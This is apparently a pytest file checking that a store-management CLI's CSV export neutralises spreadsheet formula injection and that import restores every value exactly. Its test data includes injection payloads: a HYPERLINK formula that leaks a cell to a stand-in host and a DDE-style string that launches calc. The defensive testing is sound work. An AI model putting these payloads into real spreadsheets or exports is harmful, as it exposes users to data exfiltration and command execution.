"""`stores export` opened in a spreadsheet runs nothing, and `stores import` gives every value back.

Real processes: stores added with `asc-tui stores add`, exported with `asc-tui stores export`, the export's
import columns loaded into another database with `asc-tui stores import`, then listed with `--json`.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from asc_tui.services.csv_cells import FORMULA_STARTS, neutralise, restore
from tests.support.cli import run_asc_tui

# Each is a valid store name a spreadsheet would otherwise run, or one that tests the quote itself.
NAMES = (
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd",
    "-2 shop",
    "'quoted",  # a name that really begins with a quote
    "''=both",
    "'=1+1",
    "plain 'shop'",
)
IMPORT_COLUMNS = ["name", "email", "country", "website", "product_id_type", "attribute"]


def test_the_export_runs_nothing_and_the_round_trip_is_exact(tmp_path: Path, isolated_home: Path) -> None:
    for index, name in enumerate(NAMES):
        email = f"=cmd{index}@example.com" if index % 2 else f"shop{index}@example.com"
        added = run_asc_tui(
            "stores", "add", "--name", name, "--email", email, "--country", "US", "--website", "base"
        )
        assert added.returncode == 0, added.stderr
    before = json.loads(run_asc_tui("stores", "list", "--json").stdout)
    assert [r["name"] for r in before] == list(NAMES)

    exported = run_asc_tui("stores", "export")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout, newline="")))
    cells = [cell for row in rows for cell in row.values()]
    assert cells and not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    by_name = {restore(row["name"]): row["name"] for row in rows}
    assert (
        by_name['=HYPERLINK("http://x.example/?"&A1,"click")']
        == '\'=HYPERLINK("http://x.example/?"&A1,"click")'
    )
    assert by_name["'quoted"] == "''quoted" and by_name["plain 'shop'"] == "plain 'shop'"

    again = tmp_path / "again.csv"
    with again.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=IMPORT_COLUMNS, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    other = ("--db", str(tmp_path / "other.db"))
    imported = run_asc_tui(*other, "stores", "import", str(again))
    assert imported.returncode == 0, imported.stderr
    after = json.loads(run_asc_tui(*other, "stores", "list", "--json").stdout)
    assert [(r["name"], r["email"]) for r in after] == [(r["name"], r["email"]) for r in before]


def test_a_hand_written_quote_before_ordinary_text_stays(tmp_path: Path, isolated_home: Path) -> None:
    """Import takes off only a quote export could have added (before a formula start or a quote)."""
    path = tmp_path / "stores.csv"
    path.write_text(
        "name,email,country,website\n'plain,a@example.com,US,base\n'=sum,b@example.com,US,base\n",
        encoding="utf-8",
    )
    assert run_asc_tui("stores", "import", str(path)).returncode == 0
    names = [r["name"] for r in json.loads(run_asc_tui("stores", "list", "--json").stdout)]
    assert names == ["'plain", "=sum"]


@pytest.mark.parametrize("value", [*NAMES, "", "'", "''", "\t=1", "\r=1", "x=1", "@", "=", "ok"])
def test_neutralise_then_restore_is_the_identity(value: str) -> None:
    cell = neutralise(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert restore(cell) == value
